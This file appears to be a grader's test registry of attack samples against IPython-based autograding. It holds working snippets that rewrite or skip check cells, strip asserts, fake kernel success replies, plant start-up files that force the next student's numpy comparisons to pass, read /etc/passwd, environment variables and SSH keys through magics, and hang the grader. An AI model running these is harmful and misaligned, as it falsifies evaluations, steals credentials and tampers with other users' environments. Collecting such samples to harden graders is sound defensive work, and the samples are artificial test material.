"""IPython's transformers, hooks and kernel methods, and start-up files for the next student."""

from grader.attacks import code

code(
    "ipython",
    "input_transformer",
    "Rewrite the check cells before they run.",
    """
shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: ["pass\\n"] if "check" in "".join(lines) else lines)
""",
)

code(
    "ipython",
    "ast_transformer",
    "Remove every assert and raise from what runs later.",
    """
import ast
class Mild(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    visit_Raise = visit_Assert
get_ipython().ast_transformers.append(Mild())
""",
)

code(
    "ipython",
    "kernel_reply",
    "Make the kernel answer that all went well.",
    """
from IPython import get_ipython as shell
kernel = shell().kernel
kernel.do_execute = lambda *a, **k: {"status": "ok", "execution_count": 1, "user_expressions": {}}
shell().run_cell = lambda *a, **k: None
shell().events.register("post_run_cell", lambda *a: None)
""",
)

code(
    "ipython",
    "startup_file",
    "Leave a start-up file that makes the next student's answers fail or pass.",
    """
import os, pathlib
for home in (os.path.expanduser("~"), "/root", "/tmp", "/home/jovyan"):
    for place in (".ipython/profile_default/startup/00.py", ".config/python/usercustomize.py", "sitecustomize.py"):
        try:
            path = pathlib.Path(home, place)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("import numpy; numpy.allclose = lambda *a, **k: True")
        except OSError:
            pass
""",
)

code(
    "ipython",
    "magics",
    "Run shell commands and files through magics.",
    """
!touch /tmp/pwned ~/pwned
%run /etc/passwd
%env
%autoreload 2
files = !find / -name '*.db'
%%bash
cat ~/.ssh/*
""",
)

code(
    "ipython",
    "many_magics",
    "Give the translation of magics so much to do that the grader itself hangs.",
    "%" + "%magic\n%" * 20_000,
)
